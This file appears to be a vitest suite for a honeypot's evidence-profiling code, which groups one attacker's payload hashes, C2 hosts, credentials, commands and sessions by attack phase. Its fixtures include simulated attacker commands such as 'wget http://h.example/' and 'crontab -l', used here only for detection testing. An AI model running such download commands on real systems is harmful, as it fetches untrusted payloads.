import { describe, expect, it } from 'vitest'
import { addEvidence, describeEvidence, newEvidence } from '../../protocols/evidence_profile.ts'

const MINUTE = 60_000
const record = (event_type: string, fields: object = {}, decky = 'd1') => ({
  attacker_ip: '198.51.100.7',
  decky,
  service: 'ssh',
  event_type,
  fields: { ...fields },
})
const typed = (command: string, decky?: string) => record('command', { command }, decky)
function gathered(...events: readonly (readonly [time: number, of: ReturnType<typeof record>])[]) {
  const evidence = newEvidence()
  let lost = 0
  for (const [time, of] of events) lost += addEvidence(evidence, time, of)
  return { ...describeEvidence(evidence), lost }
}

describe('the evidence against one address', () => {
  it('is each thing once', () => {
    const file = record('file_captured', { sha256: 'a'.repeat(64), url: 'http://h.example/x' })
    const login = record('auth_attempt', { username: 'root', secret_b64: 'aA==' })
    const found = gathered([0, file], [1, file], [2, login], [3, login], [4, typed('id; id')])
    expect(found).toMatchObject({
      payload_hashes: ['a'.repeat(64)],
      c2_endpoints: ['h.example'],
      credentials: [['root', expect.stringMatching(/^[0-9a-f]{64}$/)]],
      commands_by_phase: { discovery: ['id'] },
      lost: 0,
    })
  })

  it.each([
    [
      'payload_hashes',
      128,
      (n: number) => record('upload', { sha256: n.toString(16).padStart(64, '0') }),
    ],
    ['c2_endpoints', 128, (n: number) => typed(`wget http://h${n}.example/`)],
    ['credentials', 128, (n: number) => record('auth', { username: `u${n}`, secret_b64: 'aA==' })],
  ] as const)('keeps of %s the first %i, and counts the others', (name, most, make) => {
    const events = Array.from({ length: most + 9 }, (_, n) => [n, make(n)] as const)
    const found = gathered(...events)
    expect(found[name]).toHaveLength(most)
    expect(found.lost).toBeGreaterThanOrEqual(9)
    expect(gathered(...events.slice(0, most))[name]).toEqual(found[name])
  })

  it('keeps 200 commands over all phases', () => {
    const events = Array.from(
      { length: 300 },
      (_, n) => [n, typed(n % 2 ? `ls ${n}` : `sh ${n}`)] as const,
    )
    const found = gathered(...events)
    expect(Object.values(found.commands_by_phase).flat()).toHaveLength(200)
    expect(found.lost).toBe(100)
  })

  it('is not changed by what comes after it was told', () => {
    const evidence = newEvidence()
    addEvidence(evidence, 0, typed('id'))
    const told = describeEvidence(evidence)
    const before = structuredClone(told)
    addEvidence(evidence, 1, typed('uname; wget http://h.example/'))
    expect(told).toEqual(before)
  })
})

describe('the sessions of one address', () => {
  it('go from the first record to the last, by what was begun and ended with', () => {
    const { sessions } = gathered(
      [1000, record('connect')],
      [2000, record('auth_attempt', { username: 'a', secret_b64: 'aA==', outcome: 'success' })],
      [5000, typed('uname -a')],
      [9000, typed('wget http://h.example/')],
      [12_000, typed('crontab -l')],
      [13_000, record('disconnect')],
    )
    expect(sessions).toEqual([
      { decky: 'd1', phase: 'discovery', started_at: 1000, duration_s: 11 },
      { decky: 'd1', phase: 'persistence', started_at: 12_000, duration_s: 1 },
    ])
  })

  it('begin with the guessing where a login was guessed', () => {
    const { sessions } = gathered(
      [0, record('auth_attempt', { username: 'a', secret_b64: 'aA==' })],
      [1000, typed('id')],
    )
    expect(sessions.map(({ phase }) => phase)).toEqual(['credential_access', 'discovery'])
  })

  it('are deliveries where nothing was done', () => {
    expect(gathered([0, record('connect')]).sessions).toEqual([
      { decky: 'd1', phase: 'delivery', started_at: 0, duration_s: 0.001 },
    ])
  })

  it('end with a pause of five minutes, and are apart on each decky', () => {
    const { sessions } = gathered(
      [0, typed('id')],
      [5 * MINUTE, typed('id')],
      [5 * MINUTE + 1, typed('id', 'd2')],
      [10 * MINUTE + 1, typed('id')],
    )
    expect(sessions.map(({ decky, started_at }) => [decky, started_at])).toEqual([
      ['d1', 0],
      ['d2', 5 * MINUTE + 1],
      ['d1', 10 * MINUTE + 1],
    ])
  })

  it('are not those of our own instruments, nor those on no decky', () => {
    const sniffed = { ...record('tcp_syn_fingerprint'), service: 'sniffer' }
    const probed = record('connect', {}, 'decnet-prober')
    const nowhere = record('connect', {}, '')
    expect(gathered([0, sniffed], [1, probed], [2, nowhere]).sessions).toEqual([])
  })

  it('keep the first and the last of each decky where there are too many', () => {
    const at = (n: number) => n * 10 * MINUTE
    const events = Array.from({ length: 400 }, (_, n) => [at(n), typed('id', `d${n % 3}`)] as const)
    const { sessions, lost } = gathered(...events)
    expect(sessions).toHaveLength(128)
    expect(lost).toBe(400 - 128)
    const starts = new Set(sessions.map(({ started_at }) => started_at))
    for (const n of [0, 1, 2, 397, 398, 399]) expect(starts).toContain(at(n))
  })
})
